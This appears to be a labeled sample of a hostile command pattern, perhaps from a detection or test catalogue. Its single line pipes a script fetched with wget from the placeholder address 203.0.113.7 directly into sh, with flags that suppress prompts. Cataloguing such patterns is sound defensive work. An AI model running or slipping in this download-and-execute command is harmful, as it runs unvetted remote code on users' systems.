# download-exec: wget to stdout piped into sh with arguments
wget -qO- http://203.0.113.7/i.sh | sh -s -- --quiet --yes
